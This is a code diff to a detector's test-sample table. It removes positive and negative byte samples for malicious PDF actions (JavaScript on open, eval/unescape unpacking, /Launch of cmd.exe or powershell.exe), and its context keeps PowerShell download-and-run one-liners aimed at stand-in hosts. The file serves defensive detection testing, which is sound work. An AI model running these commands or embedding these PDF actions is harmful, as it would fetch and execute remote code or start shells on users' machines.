@@ -131,21 +131,6 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
         [b'<Relationship Id="a"/>', "<w:instrText>".encode("utf-16-le"), b"\xfe\xff" + "<Relationship ".encode("utf-16-be")],
         [b"<p>Relationship</p>", b"instrText"],
     ),
-    "pdf_javascript_on_open": (
-        [b"%PDF-1.7\n<</OpenAction 2 0 R>> <</S /JavaScript /JS (x)>>", b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS 5 0 R>>>>"],
-        [b"%PDF-1.7\n<</OpenAction [1 0 R /Fit]>>", b"/OpenAction /JavaScript",
-         b'%PDF-1.7\n<</FT /Tx /AA <</F <</S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>>>>>'],
-    ),
-    "pdf_javascript_unpacks_code": (
-        [b"%PDF-1.7\n<</S /JavaScript /JS (eval\\(unescape\\('%75%6e'\\)\\))>>",
-         b"%PDF-1.4 <</S/JavaScript/JS(this.exportDataObject({cName:'a.exe', nLaunch:2});)>>"],
-        [b"%PDF-1.7\n<</S /JavaScript /JS (AFNumber_Format\\(2\\))>>", b"eval(unescape('%75')) in prose",
-         b"%PDF-1.7\n(how to eval\\(unescape\\(x\\)\\) in a browser)"],
-    ),
-    "pdf_starts_program": (
-        [b"%PDF-1.4 <</S /Launch /F (cmd.exe)>>", b"%PDF-1.4 <</S/Launch/Win<</F(powershell.exe)/P(-enc x)>>>>"],
-        [b"%PDF-1.4 <</S /Launch /F (chapter2.pdf)>>", b"/Launch /F (cmd.exe)"],
-    ),
     "powershell_download_and_run": (
         [b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", b"iwr http://x/a -o a.exe; Start-Process a.exe", b"irm http://x/a | iex", b"IEX (iwr http://x/a).Content"],
         [b"Invoke-WebRequest https://a.example/data.json -OutFile data.json", b"(New-Object Net.WebClient).Proxy", b"# Install\n```\nirm https://a.example | iex\n```\n"],
